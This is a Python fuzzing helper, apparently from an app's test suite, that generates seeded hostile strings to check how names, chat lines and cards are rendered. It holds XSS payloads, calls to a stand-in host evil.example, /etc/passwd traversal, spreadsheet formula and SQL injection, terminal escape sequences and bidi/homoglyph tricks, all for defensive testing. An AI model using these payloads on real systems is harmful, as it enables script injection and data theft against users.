"""Hostile texts, always the same for the same seed: what people may put into a name, a chat line, a deck, a card.

`JS` stands for a script that would be noticed: it sets `top.hit`, opens a dialog or asks another server for something.
"""

from __future__ import annotations

from random import Random

SCRIPTS = (
    "top.hit=1",
    "alert(1)",
    "fetch('//evil.example/')",
    "new Image().src='//evil.example/i'",
    "eval('top.hit=1')",
    "top.location='//evil.example/'",
    "document.body.innerHTML='gone'",
)
# fmt: off
FAMILIES: dict[str, tuple[str, ...]] = {
    "html": (
        "<script>JS</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=JS>&lt;b&gt;",
        "<iframe srcdoc='<script>JS</script>'></iframe>", "<iframe src=javascript:JS>", "<object data=javascript:JS>",
        "<embed src=//evil.example/x>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
        "<style>@import '//evil.example/x.css'; *{display:none}</style>", "<input autofocus onfocus=JS>",
        "<meta http-equiv=refresh content='0;url=javascript:JS'>", "<form action=javascript:JS><button autofocus>x",
        "<details open ontoggle=JS>x", "<video><source onerror=JS></video>", "<body onload=JS>", "<template><b>x",
        "<a href=javascript:JS>x</a>", "<marquee onstart=JS>", "<table background=javascript:JS>", "<plaintext>",
        "</p></div></main></body></html><h1>x", "</title><script>JS</script>", "</textarea><img src=x onerror=JS>",
        "</select></option><img src=x onerror=JS>", "<!--", "--><b>x</b>", "<![CDATA[<b>]]>", "<b", "&#60;b&#62;&amp;",
        "<noscript><p title='</noscript><img src=x onerror=JS>'>", "<xmp><p title='</xmp><img src=x onerror=JS>'>",
    ),
    "svg": (
        "<svg onload=JS>", "<svg><script>JS</script></svg>", "<svg><a href=javascript:JS><text>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=JS></foreignObject>", "<svg><use href=//evil.example/x.svg#a />",
        "<svg><animate onbegin=JS attributeName=x dur=1s>", "<math><mtext></p><img src=x onerror=JS>",
        "<svg><style>*{fill:url(//evil.example/f)}</style>", "</text></svg><script>JS</script>", "]]></svg>",
    ),
    "attribute": (
        '" onmouseover="JS', "' onfocus='JS' autofocus='", '"><img src=x onerror=JS>', "'><svg onload=JS>",
        '" style="background:url(//evil.example/s)', "` onclick=`JS", 'x" href="javascript:JS',
        '"/><script>JS</script>',
        '" autofocus onfocus="JS" x="', "x onpointerenter=JS ", '\\" onload=\\"JS', '" srcdoc="<script>JS</script>',
    ),
    "address": (
        "javascript:JS", "JaVaScRiPt:JS", "java\tscript:JS", "javascript://%0aJS", "data:text/html,<script>JS</script>",
        "vbscript:JS", "//evil.example/", "https://evil.example/?a=1", "\\\\evil.example\\x", "#/table/../../x",
        "../../../etc/passwd", "file:///etc/passwd", "blob:x", "%3Cscript%3EJS%3C/script%3E", "?rule=x&lang=y#s=z",
    ),
    "template": (
        "{{JS}}", "${JS}", "{@html '<img src=x onerror=JS>'}", "{#each x}{/each}", "<%= JS %>", "#{JS}", "%s%n%d",
        "{0}",
        "{who}", "{n, plural, one {#} other {##}}", "{", "}", "{}", "{{constructor.constructor('JS')()}}", "$(JS)",
        "`JS`",
        "__proto__", "constructor", "{0.__class__.__init__.__globals__}", "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    ),
    "screen markup": (
        "[bold red]x[/]", "[link=https://evil.example]x[/link]", "[@click=app.quit]x[/]", "[@click=app.exit('x')]x[/]",
        "[/]", "[/bold]", "[[", "\\[x]", ":skull:", "[reverse]" * 9, "[on red] [/on red]", "[#fff on #000]x",
        "[$error]x",
    ),
    "terminal": (
        "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x9d0;x\x9c", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc",
        "\x07",
        "abc\x08\x08\x08xyz", "first\rsecond", "\x1b[1A\x1b[2Kgone", "\x1b[?25l", "\x1b_x\x1b\\", "\x0e\x0f",
        "\x7f\x7f",
    ),
    "control": (
        "a\x00b", "\x02" + "0\x1fface\x1fname\x03", "a\u2028b\u2029c", "a\x85b", "a\x0bb\x0cc", "\ufffe\uffff",
        "\ue000",
        "a\r\nSet-Cookie: x=1", "a\nb\n\nc", "\t\t\tx", "\x1f\x1e\x1d", "\U000e0041\U000e0042x", "\ufffd",
    ),
    "direction": (
        "\u202egnp.exe", "\u2066\u2067\u2068x\u2069", "abc\u202dxyz\u202c", "\u200fx\u200e", "\u061cx",
        "\u202a\u202b\u202ex",
        "شكرا <b>", "אבג \u202e דהו",
    ),
    "hidden": (
        "An\u200bne", "\u200bx", "\ufeffx", "x\u2060y\u2061z", "\u00adso\u00adft", "\u180ex", "x\u200d\u200cy",
        "\u034fx",
        "Аnne", "ａｄｍｉｎ", "\u115fx\u3164", "x\ufe0f\ufe0e", "e\u200b\u0301",
    ),
    "long": (
        "A" * 3000, "<b>" * 900, "x" + "\u0301" * 500, "🧛🏽‍♀️" * 200, "\u202e" * 300 + "x",
        "( ͡° ͜ʖ ͡°)" * 90, "W" * 40,
        "a " * 900, "𒐫" * 60, "﷽" * 60, "\n" * 400 + "x", "[bold]" * 400,
    ),
    "formula": (
        "=HYPERLINK(\"//evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+JS", "=1+1",
        "'; DROP TABLE tables; --", "\" OR 1=1 --", "1e309", "NaN", "null", "undefined", "true",
    ),
}
# fmt: on
NASTY = "\x00\x1b\x07\r\n\t\u202e\u2066\u200b\ufeff\u2028\"'`<>&{}[]\\"


def payloads(count: int, seed: int, longest: int = 2000) -> list[str]:
    """So many texts, no two in a row of one family; every plain form comes first, then mixtures of them."""
    rng = Random(seed)
    plain = [one.replace("JS", rng.choice(SCRIPTS)) for family in FAMILIES.values() for one in family]
    rng.shuffle(plain)
    found = [one[:longest] for one in plain[:count]]
    while len(found) < count:
        text = rng.choice(rng.choice(list(FAMILIES.values()))).replace("JS", rng.choice(SCRIPTS))
        found.append(_mixed(rng, text)[:longest] or "x")
    return found


def _mixed(rng: Random, text: str) -> str:
    """The same thought in other clothes."""
    way = rng.randrange(6)
    if way == 0:
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
    if way == 1:
        at = rng.randrange(len(text) + 1)
        return text[:at] + rng.choice(NASTY) + text[at:]
    if way == 2:
        other = rng.choice(rng.choice(list(FAMILIES.values()))).replace("JS", rng.choice(SCRIPTS))
        return rng.choice([f"{text}{other}", f"{other} {text}", f'"{text}">{other}'])
    if way == 3:
        return f"{rng.choice(NASTY)}{text}{rng.choice(NASTY)}"
    if way == 4:
        return "".join(f"&#{ord(c)};" if rng.random() < 0.2 else c for c in text)
    return f"Anne {text} {rng.randrange(1000)}"
